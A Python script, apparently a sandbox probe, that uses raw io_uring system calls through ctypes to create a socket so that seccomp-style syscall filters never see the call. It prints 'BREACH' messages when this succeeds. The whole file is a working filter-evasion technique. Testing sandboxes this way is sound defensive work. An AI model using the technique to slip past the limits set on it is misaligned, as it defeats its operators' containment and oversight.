import ctypes
import os
import socket
import struct

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
# The same numbers on every machine.
SETUP, ENTER = 425, 426
OP_SOCKET = 45
GETEVENTS = 1
READ_WRITE, SHARED = 3, 1
SUBMISSIONS, ENTRIES = 0, 0x10000000

# A ring has the kernel make calls that no filter on system calls sees.
settings = ctypes.create_string_buffer(120)
ring = libc.syscall(SETUP, 4, settings)
print("io_uring_setup", ring, os.strerror(ctypes.get_errno()))
if ring >= 0:
    print("BREACH has a ring")
    # Where in the mapping the end of the queue, its entries and the answers lie.
    _, tail, _, _, _, _, array = struct.unpack_from("=7I", settings.raw, 40)
    completions = struct.unpack_from("=6I", settings.raw, 80)[5]
    queue = libc.mmap(
        None, ctypes.c_size_t(4096), READ_WRITE, SHARED, ring, ctypes.c_long(SUBMISSIONS)
    )
    entry = libc.mmap(None, ctypes.c_size_t(4096), READ_WRITE, SHARED, ring, ctypes.c_long(ENTRIES))
    # operation, flags, -, domain, protocol's place, kind, length (protocol), ...
    packed = struct.pack("=BBHiQQIIQ", OP_SOCKET, 0, 0, int(socket.AF_INET), 1, 0, 0, 0, 7)
    ctypes.memmove(entry, packed.ljust(64, b"\0"), 64)
    ctypes.c_uint32.from_address(queue + array).value = 0
    ctypes.c_uint32.from_address(queue + tail).value = 1
    print("io_uring_enter", libc.syscall(ENTER, ring, 1, 1, GETEVENTS, None, 0))
    _, result = struct.unpack("=Qi", ctypes.string_at(queue + completions, 12))
    if result >= 0:
        line = socket.socket(fileno=result)
        print(f"BREACH the ring made a socket of family {line.family.name}")
    else:
        print("the ring says", os.strerror(-result))
